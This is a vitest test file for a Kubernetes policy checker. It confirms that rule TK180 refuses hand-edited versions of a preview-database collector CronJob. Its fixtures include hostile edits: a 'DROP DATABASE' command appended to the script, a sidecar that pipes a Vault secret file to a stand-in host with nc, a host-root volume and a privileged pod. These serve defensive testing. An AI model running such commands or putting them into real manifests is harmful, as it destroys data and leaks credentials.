import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseAllDocuments, stringify } from 'yaml';
import { describe, expect, it } from 'vitest';
import { PREVIEW_COLLECT_SCHEDULE, previewCollectScript } from '../../constructs/lifecycle/preview-collector';
import type { CheckReport } from '../../policies/report/finding';
import { App, Tier } from '../../constructs';
import { RULES } from '../../policies/rules';
import { smallEstate } from '../support/estates';
import { synthToDist } from '../support/synth';
import { validateKubernetesObject } from '../support/k8s-schema';
import { check, cleanDist, findings, freshDir } from './helpers';
import { rehashManifest } from './rehash';

// TK180 compares the orphan collector CronJob erp-previews-collect (dev bootstrap, tierkit-previews)
// whole with what constructs/synth/preview-collector.ts renders from the manifest; TK178 and TK179
// leave exactly it to TK180. Each hostile case edits the synthesized example as a hand edit would.

const BOOT = 'k8s/argocd/dev.k8s.yaml';
const NAME = 'erp-previews-collect';
const docs = (dir: string, file: string): any[] => parseAllDocuments(readFileSync(join(dir, file), 'utf8')).map((d) => d.toJS());
const collector = (objects: any[]) => objects.find((o) => o.kind === 'CronJob' && o.metadata.name === NAME);
const pod = (objects: any[]) => collector(objects).spec.jobTemplate.spec.template;

async function checkEdited(edit: (objects: any[]) => any[] | void, file = BOOT, manifestEdit?: (m: any) => void): Promise<CheckReport> {
  const dir = freshDir('preview-collector');
  cpSync(cleanDist(), dir, { recursive: true });
  const objects = docs(dir, file);
  const edited = edit(objects) ?? objects;
  writeFileSync(join(dir, file), edited.map((o) => `---\n${stringify(o)}`).join(''));
  if (manifestEdit) {
    const m = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
    manifestEdit(m);
    writeFileSync(join(dir, 'manifest.json'), `${JSON.stringify(m, null, 2)}\n`);
  }
  rehashManifest(dir);
  return check(dir);
}
const messages = (r: CheckReport, id: string) => findings(r, id).map((f) => f.message).join('\n');

describe('the preview orphan collector CronJob (synth)', () => {
  it('is in the dev bootstrap\'s tierkit-previews, valid against the pinned schema, hourly, Forbid, as the Jobs\' SA and Vault role, running the script with the 72-hour default', () => {
    const objects = docs(cleanDist(), BOOT);
    const c = collector(objects);
    expect(() => validateKubernetesObject(c)).not.toThrow();
    expect(c.metadata.namespace).toBe('tierkit-previews');
    expect(c.spec).toMatchObject({ schedule: PREVIEW_COLLECT_SCHEDULE, timeZone: 'Etc/UTC', concurrencyPolicy: 'Forbid' });
    expect(c.spec.suspend).toBeUndefined();
    const p = pod(objects);
    expect(p.spec.serviceAccountName).toBe('erp-previews');
    expect(p.metadata.annotations['vault.hashicorp.com/role']).toBe('erp-previews');
    expect(p.metadata.annotations['vault.hashicorp.com/agent-inject-secret-database']).toBe('kvv2/data/erp-previews/admin');
    // No Vault token for the collector: it never calls Vault.
    expect(p.metadata.annotations['vault.hashicorp.com/agent-inject-token']).toBeUndefined();
    expect(p.spec.containers).toHaveLength(1);
    expect(p.spec.containers[0].command).toEqual(['bash', '-c', previewCollectScript('erp', 72)]);
    expect(p.spec.containers[0].env.map((e: any) => e.name)).not.toContain('TIERKIT_PR_NUMBER');
    // The Jobs' egress selects the collector's pods too (it needs the server, and Vault for its agent).
    const egress = objects.find((o) => o.kind === 'NetworkPolicy' && o.metadata.name === 'erp-previews-egress-postgres');
    expect(Object.entries(egress.spec.podSelector.matchLabels).every(([k, v]) => p.metadata.labels[k] === v)).toBe(true);
    const manifest = JSON.parse(readFileSync(join(cleanDist(), 'manifest.json'), 'utf8'));
    expect(manifest.appEnvironments.find((e: any) => e.previews)?.previews.orphanAfterHours).toBe(72);
  });
});

describe('a declared window', () => {
  it('reaches the manifest and the script (5 hours), and TK180 holds the CronJob to it', async () => {
    const e = smallEstate();
    new App(e, 'erp', { tiers: [Tier.DEV, Tier.PROD], objectPrefix: 'llx_', image: 'example/erp:1.0.0@sha256:' + 'e'.repeat(64), previews: { tier: Tier.DEV, orphanAfterHours: 5 } });
    const dist = synthToDist(e, 'preview-collector-window');
    const m = JSON.parse(readFileSync(join(dist.dir, 'manifest.json'), 'utf8'));
    expect(m.appEnvironments.find((x: any) => x.previews)?.previews.orphanAfterHours).toBe(5);
    expect(pod(docs(dist.dir, BOOT)).spec.containers[0].command).toEqual(['bash', '-c', previewCollectScript('erp', 5)]);
    expect(previewCollectScript('erp', 5)).toContain('make_interval(hours => 5)');
    expect(findings(await check(dist.dir), 'TK180')).toEqual([]);
  });
});

describe('TK180: the collector is exactly tierkit\'s', () => {
  it('passes on the synthesized example, and is unsuppressible', async () => {
    const r = await checkEdited(() => undefined);
    expect(findings(r, 'TK180')).toEqual([]);
    expect(findings(r, 'TK178')).toEqual([]);
    expect(findings(r, 'TK179')).toEqual([]);
    expect(RULES.find((x) => x.id === 'TK180')?.suppressible).toBe(false);
  });

  it('refuses an edited script', async () => {
    const r = await checkEdited((o) => { pod(o).spec.containers[0].command[2] += 'psql -c "DROP DATABASE \\"erp-dev\\""\n'; });
    expect(messages(r, 'TK180')).toMatch(/containers\/0\/command\/2 does not run tierkit's collector script verbatim/);
  });

  it('refuses a shorter window in the script alone (the manifest says 72 hours)', async () => {
    const r = await checkEdited((o) => { pod(o).spec.containers[0].command[2] = previewCollectScript('erp', 1); });
    expect(messages(r, 'TK180')).toMatch(/does not run tierkit's collector script verbatim/);
  });

  it('refuses a window out of bounds in the manifest as unmodellable', async () => {
    const r = await checkEdited(() => undefined, BOOT, (m) => { m.appEnvironments.find((e: any) => e.previews).previews.orphanAfterHours = 0; });
    expect(messages(r, 'TK180')).toMatch(/cannot be modelled: the manifest's previews.orphanAfterHours of .* is 0/);
    // A manifest without the window (a dist from before it, or a hand edit) is not a pass either.
    const gone = await checkEdited(() => undefined, BOOT, (m) => { delete m.appEnvironments.find((e: any) => e.previews).previews.orphanAfterHours; });
    expect(messages(gone, 'TK180')).toMatch(/cannot be modelled: the manifest's previews.orphanAfterHours of .* is null/);
    const text = await checkEdited(() => undefined, BOOT, (m) => { m.appEnvironments.find((e: any) => e.previews).previews.orphanAfterHours = '72'; });
    expect(messages(text, 'TK180')).toMatch(/is "72", not a whole number of hours/);
  });

  it('refuses another schedule, a lifted concurrency policy and a suspended collector', async () => {
    const r = await checkEdited((o) => { Object.assign(collector(o).spec, { schedule: '* * * * *', concurrencyPolicy: 'Allow', suspend: true }); });
    const m = messages(r, 'TK180');
    expect(m).toMatch(/\/spec\/schedule is "\* \* \* \* \*"; exactly "17 \* \* \* \*"/);
    expect(m).toMatch(/\/spec\/concurrencyPolicy is "Allow"; exactly "Forbid"/);
    expect(m).toMatch(/\/spec\/suspend is true; exactly null/);
  });

  it('refuses another service account (an env\'s) and another Vault role', async () => {
    const r = await checkEdited((o) => { const p = pod(o); p.spec.serviceAccountName = 'erp-dev'; p.metadata.annotations['vault.hashicorp.com/role'] = 'erp-dev'; });
    const m = messages(r, 'TK180');
    expect(m).toMatch(/serviceAccountName is "erp-dev"; exactly "erp-previews"/);
    expect(m).toMatch(/vault\.hashicorp\.com~1role is "erp-dev"; exactly "erp-previews"/);
  });

  it('refuses an extra container and an extra volume', async () => {
    const r = await checkEdited((o) => {
      const p = pod(o);
      p.spec.containers.push({ ...structuredClone(p.spec.containers[0]), name: 'side', command: ['sh', '-c', 'cat /vault/secrets/database | nc evil 80'] });
      p.spec.volumes.push({ name: 'host', hostPath: { path: '/' } });
    });
    const m = messages(r, 'TK180');
    expect(m).toMatch(/\/spec\/jobTemplate\/spec\/template\/spec\/containers is .*; exactly/);
    expect(m).toMatch(/\/spec\/jobTemplate\/spec\/template\/spec\/volumes is /);
  });

  it('holds the resources to the synthesizer\'s (no quota bounds tierkit-previews)', async () => {
    const { DATABASE_TOOL_RESOURCES } = await import('../../constructs/runtime');
    const { PREVIEW_COLLECTOR_RESOURCES } = await import('../../policies/rules/support/preview-collector');
    const d = DATABASE_TOOL_RESOURCES;
    expect(PREVIEW_COLLECTOR_RESOURCES).toEqual({ limits: { cpu: `${d.limitsCpuMillis}m`, memory: `${d.limitsMemoryMiB}Mi` }, requests: { cpu: `${d.requestsCpuMillis}m`, memory: `${d.requestsMemoryMiB}Mi` } });
    const r = await checkEdited((o) => { pod(o).spec.containers[0].resources = { limits: { cpu: '64', memory: '512Gi' }, requests: { cpu: '64', memory: '512Gi' } }; });
    expect(messages(r, 'TK180')).toMatch(/containers\/0\/resources\/limits\/cpu is "64"; exactly "1000m"/);
  });

  it('refuses another image, another env and a privileged pod', async () => {
    const r = await checkEdited((o) => {
      const c = pod(o).spec.containers[0];
      c.image = 'docker.io/library/postgres:18';
      c.env.push({ name: 'PGHOST', value: 'pg-prod.arcodange.lab' });
      c.securityContext.privileged = true;
    });
    const m = messages(r, 'TK180');
    expect(m).toMatch(/containers\/0\/image is "docker.io\/library\/postgres:18"; exactly "docker.io\/library\/postgres:18.1@sha256:/);
    expect(m).toMatch(/containers\/0\/env is /);
    expect(m).toMatch(/breaks the restricted Pod Security profile/);
  });

  it('refuses a missing collector and a twin', async () => {
    expect(messages(await checkEdited((o) => o.filter((x) => x.kind !== 'CronJob')), 'TK180')).toMatch(/lacks CronJob tierkit-previews\/erp-previews-collect/);
    expect(messages(await checkEdited((o) => [...o, collector(o)]), 'TK180')).toMatch(/declares CronJob tierkit-previews\/erp-previews-collect twice/);
  });

  it('TK179 still refuses any other CronJob in tierkit-previews, and TK178 one running as erp-previews in another tier\'s bootstrap', async () => {
    const r = await checkEdited((o) => { const c = structuredClone(collector(o)); c.metadata.name = 'erp-previews-gc'; return [...o, c]; });
    expect(messages(r, 'TK179')).toMatch(/CronJob\/erp-previews-gc in tierkit-previews is .*tierkit writes only/);
    const c = collector(docs(cleanDist(), BOOT));
    const p = await checkEdited((o) => [...o, c], 'k8s/argocd/prod.k8s.yaml');
    expect(messages(p, 'TK178')).toMatch(/CronJob tierkit-previews\/erp-previews-collect runs its pods as ServiceAccount "erp-previews"/);
  });
});
